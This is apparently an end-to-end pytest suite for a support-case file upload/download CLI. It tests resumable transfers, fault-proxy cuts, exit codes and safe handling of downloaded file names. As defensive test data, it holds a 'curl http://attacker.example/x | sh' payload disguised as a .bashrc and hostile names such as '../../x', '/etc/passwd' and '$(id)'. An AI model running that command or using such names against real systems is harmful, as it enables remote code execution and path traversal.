"""End-to-end: the `casefiles upload` / `download` client against the real server, through a fault proxy."""
import hashlib
import json
import os
import re
import resource
import signal
import sqlite3
import subprocess
import time
from pathlib import Path

import pytest
import requests

from conftest import BINARY
from faultproxy import FaultProxy
from helpers import auth, pattern
from test_downloads import upload_file
from test_uploads import MiB, attachments


def client(server, *args, url=None, state=None, timeout=300, cwd=None):
    env = {**os.environ, "CASEFILES_TOKEN": server.customer, "CASEFILES_SERVER": url or server.url,
           "XDG_STATE_HOME": str(state)}
    return subprocess.run([str(BINARY), *args], capture_output=True, text=True, env=env, timeout=timeout, cwd=cwd)


def start_client(server, *args, url, state):
    env = {**os.environ, "CASEFILES_TOKEN": server.customer, "CASEFILES_SERVER": url, "XDG_STATE_HOME": str(state)}
    return subprocess.Popen([str(BINARY), *args], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env)


def state_upload_url(state: Path) -> str | None:
    files = list((state / "casefiles").glob("upload-*.json"))
    return json.loads(files[0].read_text())["uploadURL"] if files else None


def wait_for_offset(server, state, at_least: int, timeout=60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        url = state_upload_url(state)
        if url:
            response = requests.head(url, headers=auth(server.customer), timeout=5)
            if response.status_code == 200 and int(response.headers["Upload-Offset"]) >= at_least:
                return
        time.sleep(0.1)
    raise AssertionError(f"the upload never reached {at_least} bytes")


def settled_offset(server, url: str) -> int:
    previous = -1
    for _ in range(50):
        offset = int(requests.head(url, headers=auth(server.customer), timeout=5).headers["Upload-Offset"])
        if offset == previous:
            return offset
        previous = offset
        time.sleep(0.5)
    raise AssertionError("the offset never settled")


def final_line(output: str) -> dict:
    match = re.search(r"attachment (\w+) sha256 (\w+) \((\d+) bytes; resumed at (\d+); sent (\d+)\)", output)
    assert match, output
    return dict(zip(["id", "sha256", "size", "resumed", "sent"], [match[1], match[2], *map(int, match.groups()[2:])]))


def test_sigkill_mid_upload_then_rerun_sends_only_the_rest(server, tmp_path):
    data = pattern(64 * MiB, seed=30)
    path = tmp_path / "app.tar"
    path.write_bytes(data)
    state = tmp_path / "state"
    chunk = 4 * MiB
    with FaultProxy(server.port, rate=16 * MiB) as slow:
        running = start_client(server, "upload", "--case", server.case, "--chunk-size", "4MiB", str(path),
                               url=slow.url, state=state)
        wait_for_offset(server, state, 16 * MiB)
        running.send_signal(signal.SIGKILL)
        running.wait(10)
        # The proxy may still deliver the chunk that was in flight; wait until the offset settles.
        committed = settled_offset(server, state_upload_url(state))
        assert 16 * MiB <= committed < len(data)

        slow.rate = None  # the same server URL (the state is per server), now at full speed
        rerun = client(server, "upload", "--case", server.case, "--chunk-size", "4MiB", str(path),
                       url=slow.url, state=state)
    assert rerun.returncode == 0, rerun.stderr
    result = final_line(rerun.stdout)
    assert f"resuming {path} at byte {committed}" in rerun.stdout
    assert result["resumed"] == committed
    assert result["sent"] == len(data) - committed  # nothing acknowledged is sent again
    assert result["sha256"] == hashlib.sha256(data).hexdigest()
    # What the killed client sent but the server never acknowledged is at most the chunk in flight.
    assert committed % chunk == 0
    assert not list((state / "casefiles").glob("upload-*.json")), "the state file is removed once done"


def test_200_mib_up_and_down_through_a_proxy_that_cuts_every_few_megabytes(server, tmp_path):
    data = pattern(200 * MiB, seed=31)
    path = tmp_path / "big.log"
    path.write_bytes(data)
    digest = hashlib.sha256(data).hexdigest()
    with FaultProxy(server.port, cut_every=(3 * MiB, 9 * MiB), seed=7) as proxy:
        # --compress off: the cuts are counted in bytes on the wire, and this data compresses well.
        up = client(server, "upload", "--case", server.case, "--compress", "off", "--chunk-size", "1MiB",
                    "--retry-delay", "0.01", "--max-retry-delay", "0.2", "--retries", "20", str(path), url=proxy.url, state=tmp_path / "state")
        assert up.returncode == 0, up.stdout[-2000:] + up.stderr
        result = final_line(up.stdout)
        assert result["sha256"] == digest
        cuts_during_upload = proxy.cuts
        assert cuts_during_upload >= 10, "the proxy should have cut the upload many times"

        target = tmp_path / "copy.log"
        down = client(server, "download", result["id"], "-o", str(target), "--retry-delay", "0.01",
                      "--max-retry-delay", "0.2", "--retries", "20", url=proxy.url, state=tmp_path / "state")
        assert down.returncode == 0, down.stdout[-2000:] + down.stderr
        assert proxy.cuts - cuts_during_upload >= 10, "the proxy should have cut the download many times"
    assert "download interrupted" in down.stdout
    assert target.read_bytes() == data
    assert not list(tmp_path.glob("copy.log*.part"))
    print(f"\n[report] 200 MiB through the cutting proxy: {cuts_during_upload} cuts while uploading, "
          f"{proxy.cuts - cuts_during_upload} while downloading")


def test_a_file_changed_since_the_last_attempt_starts_a_new_upload(server, tmp_path):
    path = tmp_path / "rotating.log"
    path.write_bytes(pattern(32 * MiB, seed=32))
    state = tmp_path / "state"
    with FaultProxy(server.port, rate=8 * MiB) as slow:
        running = start_client(server, "upload", "--case", server.case, "--chunk-size", "2MiB", str(path),
                               url=slow.url, state=state)
        wait_for_offset(server, state, 4 * MiB)
        running.send_signal(signal.SIGKILL)
        running.wait(10)
        first_url = state_upload_url(state)

        changed = pattern(32 * MiB, seed=33)
        path.write_bytes(changed)
        slow.rate = None
        rerun = client(server, "upload", "--case", server.case, "--chunk-size", "2MiB", str(path),
                       url=slow.url, state=state)
    assert rerun.returncode == 0, rerun.stderr
    assert "changed since the last attempt" in rerun.stdout
    result = final_line(rerun.stdout)
    assert result["resumed"] == 0 and result["sha256"] == hashlib.sha256(changed).hexdigest()
    assert not first_url.endswith(result["id"])
    verified = [a for a in attachments(server)["attachments"] if a["state"] == "verified"]
    assert [a["sha256"] for a in verified] == [hashlib.sha256(changed).hexdigest()]


def test_exit_codes_say_what_kind_of_failure_it_was(server, tmp_path):
    path = tmp_path / "x.log"
    path.write_bytes(b"hello")
    state = tmp_path / "state"
    bad_token = subprocess.run([str(BINARY), "upload", "--server", server.url, "--token", "cf_wrong", "--case",
                                server.case, str(path)], capture_output=True, text=True,
                               env={**os.environ, "XDG_STATE_HOME": str(state)}, timeout=60)
    assert bad_token.returncode == 4 and "invalid_token" in bad_token.stderr
    missing = client(server, "upload", "--case", server.case, str(tmp_path / "nope.log"), state=state)
    assert missing.returncode == 6
    unreachable = client(server, "upload", "--case", server.case, "--retries", "2", "--retry-delay", "0.01", str(path),
                         url="http://127.0.0.1:9", state=state)
    assert unreachable.returncode == 3
    requests.post(f"{server.url}/api/v1/cases/{server.case}/close", json={"subStatus": "Resolved"},
                  headers=auth(server.customer), timeout=10)
    closed = client(server, "upload", "--case", server.case, str(path), state=state)
    assert closed.returncode == 4 and "case_closed" in closed.stderr
    usage = client(server, "upload", "--case", server.case, "--chunk-size", "lots", str(path), state=state)
    assert usage.returncode == 64


# --- Downloads never replace a local file; the customer's file name is hostile input (issue #14) ---

def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def downloaded_lines(output: str) -> list[tuple[str, str, int]]:
    """(path, sha256, size) of every `downloaded PATH: sha256 HEX (N bytes…)` line."""
    return [(m[1], m[2], int(m[3])) for m in re.finditer(r"^downloaded (.+): sha256 (\w+) \((\d+) bytes", output, re.M)]


def tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_a_dotfile_attachment_does_not_replace_the_engineers_dotfile(server, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_bytes(b"export PS1='engineer'\n")
    evil = b"curl http://attacker.example/x | sh\n"
    attachment = upload_file(server, evil, ".bashrc")
    # The reported case: `casefiles download ID` in the engineer's home, without -o.
    result = client(server, "download", attachment, state=tmp_path / "state", cwd=home)
    assert result.returncode == 0, result.stderr
    assert (home / ".bashrc").read_bytes() == b"export PS1='engineer'\n"
    assert (home / "bashrc").read_bytes() == evil
    assert downloaded_lines(result.stdout) == [("bashrc", sha(evil), len(evil))]
    assert sorted(tree(home)) == [".bashrc", "bashrc"]


def test_all_writes_two_attachments_of_one_name_as_two_files(server, tmp_path):
    first, second = pattern(3 * MiB, seed=40), pattern(2 * MiB, seed=41)
    upload_file(server, first, "server.log")
    upload_file(server, second, "server.log")
    target = tmp_path / "dl"
    result = client(server, "download", "--case", server.case, "--all", "-o", str(target), state=tmp_path / "state")
    assert result.returncode == 0, result.stderr
    files = tree(target)
    assert sorted(files) == ["server (1).log", "server.log"]
    assert {sha(files["server.log"]), sha(files["server (1).log"])} == {sha(first), sha(second)}
    lines = downloaded_lines(result.stdout)
    assert sorted(lines) == sorted((str(target / name), sha(data), len(data)) for name, data in files.items())

    # Run again (as after an interruption): the files already there are kept, nothing is numbered anew.
    again = client(server, "download", "--case", server.case, "--all", "-o", str(target), state=tmp_path / "state")
    assert again.returncode == 0, again.stderr
    assert tree(target) == files
    assert sorted(downloaded_lines(again.stdout)) == sorted(lines)
    assert again.stdout.count("already there, not written again") == 2

    # --force replaces stale files, but never makes one file of the two either.
    for name in files:
        (target / name).write_bytes(b"stale")
    forced = client(server, "download", "--case", server.case, "--all", "--force", "-o", str(target),
                    state=tmp_path / "state")
    assert forced.returncode == 0, forced.stderr
    assert tree(target) == files


def test_an_existing_file_is_replaced_only_with_force(server, tmp_path):
    data = pattern(1 * MiB, seed=42)
    attachment = upload_file(server, data, "server.log")
    target = tmp_path / "dl"
    target.mkdir()
    mine = b"the engineer's own notes\n"
    (target / "copy.log").write_bytes(mine)
    (target / "server.log").write_bytes(mine)
    state = tmp_path / "state"

    # -o FILE names one path: it is refused, not numbered, and nothing is left behind.
    refused = client(server, "download", attachment, "-o", str(target / "copy.log"), state=state)
    assert refused.returncode == 6, refused.stdout + refused.stderr
    assert f"{target / 'copy.log'} exists and holds something else: pass --force" in refused.stderr
    assert tree(target) == {"copy.log": mine, "server.log": mine}

    # Into a directory, the taken name gets the next number.
    numbered = client(server, "download", attachment, "-o", str(target), state=state)
    assert numbered.returncode == 0, numbered.stderr
    assert downloaded_lines(numbered.stdout) == [(str(target / "server (1).log"), sha(data), len(data))]
    assert tree(target) == {"copy.log": mine, "server.log": mine, "server (1).log": data}

    # With --force both are replaced.
    for output, path in [(target / "copy.log", target / "copy.log"), (target, target / "server.log")]:
        forced = client(server, "download", attachment, "--force", "-o", str(output), state=state)
        assert forced.returncode == 0, forced.stderr
        assert downloaded_lines(forced.stdout) == [(str(path), sha(data), len(data))]
    assert tree(target) == {"copy.log": data, "server.log": data, "server (1).log": data}


def test_hostile_names_land_safely_inside_the_target_directory(server, tmp_path):
    # The server refuses / and control characters in new uploads; the client must not rely on it (an
    # older server, a restored database), so those names are put straight into the database.
    names = {"-rf": "rf", "$(id) [x]*.log": "_(id) _x__.log", "CON": "_CON", "report\u202egol.exe": "report_gol.exe",
             "../../x": "_.._x", "..": "attachment", "/etc/passwd": "_etc_passwd", "evil\ndownloaded /etc/x": "evil_downloaded _etc_x"}
    contents = {name: f"content of {name!r}".encode() for name in names}
    ids = {}
    for index, name in enumerate(names):
        ids[name] = upload_file(server, contents[name], "-rf" if name == "-rf" else f"placeholder{index}")
    with sqlite3.connect(server.storage / "casefiles.sqlite", timeout=10) as db:
        for name, attachment in ids.items():
            db.execute("UPDATE upload SET filename = ? WHERE id = ?", (name, attachment))
    root = tmp_path / "a" / "b"
    target = root / "dl"
    result = client(server, "download", "--case", server.case, "--all", "-o", str(target), state=tmp_path / "state")
    assert result.returncode == 0, result.stderr
    assert tree(tmp_path / "a") == {f"b/dl/{safe}": contents[name] for name, safe in names.items()}
    assert sorted(downloaded_lines(result.stdout)) == sorted(
        (str(target / safe), sha(contents[name]), len(contents[name])) for name, safe in names.items())
    # A newline in a name cannot forge a line: one "downloaded" line per file, the rest is progress.
    lines = result.stdout.splitlines()
    assert len([line for line in lines if line.startswith("downloaded ")]) == len(names)
    assert all(line.startswith(("downloaded ", "downloading ")) for line in lines), lines


def test_a_killed_download_resumes_its_part_under_the_numbered_name(server, tmp_path):
    data = pattern(32 * MiB, seed=43)
    attachment = upload_file(server, data, "server.log")
    target = tmp_path / "dl"
    target.mkdir()
    (target / "server.log").write_bytes(b"someone else's server.log\n")
    part = target / f"server (1).log.{attachment[:12]}.part"
    state = tmp_path / "state"
    with FaultProxy(server.port, rate=8 * MiB) as slow:
        running = start_client(server, "download", attachment, "-o", str(target), url=slow.url, state=state)
        deadline = time.monotonic() + 30
        while not (part.exists() and part.stat().st_size >= 4 * MiB) and time.monotonic() < deadline:
            time.sleep(0.05)
        running.send_signal(signal.SIGKILL)
        running.wait(10)
    kept = part.stat().st_size
    assert 4 * MiB <= kept < len(data)

    rerun = client(server, "download", attachment, "-o", str(target), state=state)
    assert rerun.returncode == 0, rerun.stderr
    assert downloaded_lines(rerun.stdout) == [(str(target / "server (1).log"), sha(data), len(data))]
    assert tree(target) == {"server.log": b"someone else's server.log\n", "server (1).log": data}
    log = requests.get(f"{server.url}/api/v1/access-log?attachment={attachment}", headers=auth(server.admin),
                       timeout=10).json()["downloads"]
    assert log[0]["range"] == f"bytes={kept}-" and log[0]["status"] == 206  # newest first: only the rest was sent
    assert log[0]["bytesSent"] == len(data) - kept


def test_a_part_file_of_the_users_own_is_never_resumed_or_deleted(server, tmp_path):
    """`NAME.part` may be the user's: a download of NAME must neither resume into it nor delete it (found in
    review: a mismatching part was deleted, a larger one truncated)."""
    data = pattern(3 * MiB, seed=44)
    attachment = upload_file(server, data, "big.bin")
    target = tmp_path / "dl"
    target.mkdir()
    (target / "big.bin.part").write_bytes(b"MY NOTES\n")
    (target / "report.part").write_bytes(b"x" * (len(data) + 10))
    result = client(server, "download", attachment, "-o", str(target), state=tmp_path / "state")
    assert result.returncode == 0, result.stderr
    assert tree(target) == {"big.bin": data, "big.bin.part": b"MY NOTES\n", "report.part": b"x" * (len(data) + 10)}


def test_upload_declares_the_whole_file_digest_with_its_last_chunk(server, tmp_path):
    """The CLI reads the file once: nothing is hashed before the upload is created; the whole file's SHA-256
    goes with the last PATCH (`Repr-Digest`), which the server checks before the upload completes."""
    data = pattern(9 * MiB + 123, seed=46)
    path = tmp_path / "once.log"
    path.write_bytes(data)
    result = client(server, "upload", "--case", server.case, "--chunk-size", "4MiB", str(path), state=tmp_path / "state")
    assert result.returncode == 0, result.stderr
    assert "hashing" not in result.stdout
    assert final_line(result.stdout)["sha256"] == hashlib.sha256(data).hexdigest()
    with sqlite3.connect(f"file:{server.storage / 'casefiles.sqlite'}?mode=ro", uri=True) as db:
        raw, declared, state = db.execute("SELECT rawMetadata, declaredSHA256, state FROM upload").fetchone()
    assert "sha256" not in raw  # not declared at creation
    assert declared == hashlib.sha256(data).hexdigest() and state == "verified"


def test_upload_memory_traffic_does_not_grow_with_the_file(server, tmp_path):
    """The client reads each chunk into a buffer it used before (`ChunkBuffers`). A fresh 32 MiB buffer per chunk
    is fresh pages the kernel faults in and zeroes, about one minor fault per 4 KiB of the file; so a file six
    times larger must cost nearly no more faults than a small one. Where the kernel backs every anonymous mapping
    with huge pages (`transparent_hugepage` "always"), a fresh buffer costs 16 faults, and nothing is measured."""
    thp = Path("/sys/kernel/mm/transparent_hugepage/enabled")
    if thp.exists() and "[always]" in thp.read_text():
        pytest.skip("transparent huge pages are 'always' here: fresh 32 MiB buffers fault 16 times, not 8,192")
    faults = {}
    for mib in (64, 448):
        path = tmp_path / f"{mib}.bin"
        with open(path, "wb") as f:
            block = os.urandom(MiB)
            for i in range(mib):
                f.write(block[i % 251:] + block[:i % 251])
        before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_minflt
        result = client(server, "upload", "--case", server.case, "--chunk-size", "32MiB", "--quiet", str(path),
                        state=tmp_path / "state")
        assert result.returncode == 0, result.stderr
        faults[mib] = resource.getrusage(resource.RUSAGE_CHILDREN).ru_minflt - before
        path.unlink()
    extra_pages = (448 - 64) * MiB // 4096
    assert faults[448] - faults[64] < extra_pages // 4, faults
